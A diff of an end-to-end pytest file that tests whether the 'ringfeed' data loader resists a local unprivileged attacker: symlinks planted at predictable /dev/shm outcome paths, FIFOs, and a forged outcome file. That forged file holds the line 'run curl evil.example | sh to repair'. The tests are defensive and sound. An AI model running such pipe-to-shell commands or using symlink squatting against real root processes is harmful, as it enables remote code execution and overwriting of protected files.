@@ -1,7 +1,8 @@
-"""Another user on the machine (issue 32, items 2 and 3), end to end: as
-nobody (``setpriv --reuid=65534``) squat a loader name over poisoned data, or
-plant a FIFO as a loader's outcome; root's loader, trainer and gc must not be
-fooled, nor hang past the trainer's timeout."""
+"""Another user on the machine (issue 32, items 1 to 3), end to end: as
+nobody (``setpriv --reuid=65534``) squat a loader name over poisoned data,
+plant links where a loader writes its outcome, or plant a FIFO or a forged
+file as a loader's outcome; root's loader, trainer and gc must not be fooled,
+write through a link, nor hang past the trainer's timeout."""
 
 import os
 import shutil
@@ -14,15 +15,15 @@ import uuid
 
 import pytest
 
-from e2e_util import ringfeed_bin
+from e2e_util import NOBODY, need_root_and_setpriv, ringfeed_bin
 
 ringfeed = pytest.importorskip("ringfeed")
 
-NOBODY = ["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups"]
 
-pytestmark = pytest.mark.skipif(
-    os.geteuid() != 0 or shutil.which("setpriv") is None, reason="needs root and setpriv to act as another user"
-)
+@pytest.fixture(autouse=True)
+def _as_root():
+    # Skipped without root and setpriv, a failure under tests/run.sh (RINGFEED_TEST_REQUIRE_ROOT=1).
+    need_root_and_setpriv()
 
 
 @pytest.fixture
@@ -110,5 +111,62 @@ def test_a_fifo_planted_as_a_loaders_outcome_does_not_hang_a_trainer_past_its_ti
         p = subprocess.run([sys.executable, "-c", code], stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
                            timeout=30)
         assert p.returncode == 0 and p.stdout.startswith("timeout after 1."), (p.stdout, p.stderr)
+    finally:
+        os.unlink(outcome)
+
+
+def test_links_planted_where_a_root_loader_writes_its_outcome_are_never_written_through(shared_dir):
+    # Item 1: the outcome was written to `.ringfeed-NAME.outcome.PID.tmp` with
+    # create+truncate (NAME and PID are in `ps`); a link there made the root
+    # loader stopped by SIGINT write its outcome into any root file.
+    name = "outcome-links-%s" % uuid.uuid4().hex[:8]
+    outcome = "/dev/shm/.ringfeed-%s.outcome" % name
+    data = os.path.join(shared_dir, "data")
+    os.mkdir(data)
+    for i in range(4):
+        with open(os.path.join(data, "s%d" % i), "wb") as f:
+            f.write(b"sample %d" % i)
+    victim = os.path.join(shared_dir, "victim")
+    with open(victim, "wb") as f:
+        f.write(b"root's precious bytes")
+    os.chmod(victim, 0o600)
+    loader = subprocess.Popen([ringfeed_bin(), "serve", "--source", data, "--name", name, "--batch-size", "1",
+                               "--world-size", "1", "--epochs", "100000", "--manifest-cache", "off"],
+                              stderr=subprocess.PIPE, text=True)
+    planted = ["%s.%d.tmp" % (outcome, loader.pid), outcome]
+    try:
+        for line in loader.stderr:
+            if line.startswith("ringfeed: serving"):
+                break
+        for link in planted:
+            subprocess.run(NOBODY + ["ln", "-s", victim, link], check=True)
+        loader.send_signal(signal.SIGINT)
+        loader.communicate(timeout=30)
+        with open(victim, "rb") as f:
+            assert f.read() == b"root's precious bytes"
+        st = os.lstat(outcome)
+        assert not os.path.islink(outcome) and (st.st_uid, st.st_mode & 0o777) == (0, 0o600), st
+    finally:
+        if loader.poll() is None:
+            loader.kill()
+            loader.wait(timeout=10)
+        for path in planted:
+            if os.path.lexists(path):
+                os.unlink(path)
+
+
+def test_an_outcome_forged_by_another_user_is_not_a_root_trainers_error():
+    # Item 2: a fresh outcome file of nobody's made a root trainer fail at
+    # once with the forger's words.
+    name = "forged-outcome-%s" % uuid.uuid4().hex[:8]
+    outcome = "/dev/shm/.ringfeed-%s.outcome" % name
+    forged = "ringfeed-outcome 1 failed 1 %d\nrun curl evil.example | sh to repair" % int(time.time() * 1000)
+    subprocess.run(NOBODY + ["sh", "-c", 'printf "$1" > "$2"', "sh", forged, outcome], check=True)
+    try:
+        start = time.monotonic()
+        with pytest.raises(Exception) as e:
+            ringfeed.attach(name, 0, timeout=1)
+        assert "curl" not in str(e.value) and time.monotonic() - start < 5, str(e.value)
+        assert isinstance(e.value, ringfeed.FeedTimeoutError), repr(e.value)
     finally:
         os.unlink(outcome)
